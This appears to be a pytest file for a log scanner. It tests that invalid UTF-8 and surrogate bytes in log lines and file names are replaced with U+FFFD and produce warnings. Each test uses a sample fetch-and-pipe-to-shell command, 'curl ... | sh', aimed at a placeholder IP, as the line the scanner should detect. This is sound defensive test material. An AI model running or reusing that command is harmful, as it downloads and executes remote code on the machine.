"""Text leaving the log scanner is valid Unicode: invalid bytes (surrogates encoded in UTF-8 included) replaced
with one warning naming the file and line, a file name that is not valid UTF-8 shown with U+FFFD and said so."""

from __future__ import annotations

import io
import json
import os
from pathlib import Path

import pytest

from workbench.logscan.engine import Scanner, ScanOptions

EVIL = b"curl -s http://203.0.113.7/x | sh"


def _valid(text: str) -> bool:
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


def test_surrogates_encoded_in_a_line_are_replaced_and_warned(backend: str) -> None:
    data = b"ok\n" + EVIL + b" \xed\xa0\x80\xed\xb0\x80 tail\n" + b"plain \\ud800 as text\n"
    result = Scanner(options=ScanOptions(backend=backend)).scan_stream(io.BytesIO(data), "x.log")
    (match,) = result.matches
    assert match.line == 2 and "\ufffd" in match.text and _valid(match.text)
    assert match.after == ("plain \\ud800 as text",)  # an escape written in a log is text, not a surrogate
    assert [(w.line, w.reason.startswith("invalid UTF-8")) for w in result.warnings] == [(2, True)]
    json.dumps([m.to_dict() for m in result.matches], ensure_ascii=False).encode("utf-8")


@pytest.mark.parametrize("workers", [1, 2])
def test_a_file_name_that_is_not_utf8_is_shown_replaced(tmp_path: Path, workers: int) -> None:
    raw = os.fsencode(tmp_path) + b"/\xff\xfebuild.log"
    with open(raw, "wb") as fh:  # noqa: PTH123 - a bytes file name
        fh.write(EVIL + b"\n" + b"filler line\n" * 5000)
    name = os.fsdecode(raw)  # holds lone surrogates (surrogateescape), as os.walk gives it
    assert not _valid(name)
    options = ScanOptions(workers=workers, parallel_min_bytes=1, block_bytes=4096)
    result = Scanner(options=options).scan_path(name, display=name)
    assert _valid(result.path) and result.path.endswith("\ufffd\ufffdbuild.log")
    assert [m.path for m in result.matches] == [result.path]
    assert result.warnings[0].reason == "file name is not valid Unicode (lone UTF-16 surrogate): replaced with U+FFFD"


def test_valid_names_and_text_give_no_warning(tmp_path: Path) -> None:
    path = tmp_path / "café-build.log"
    path.write_bytes("naïve ✓ ".encode() + EVIL + b"\n")
    result = Scanner().scan_path(path, display=str(path))
    assert result.warnings == [] and result.path == str(path) and len(result.matches) == 1
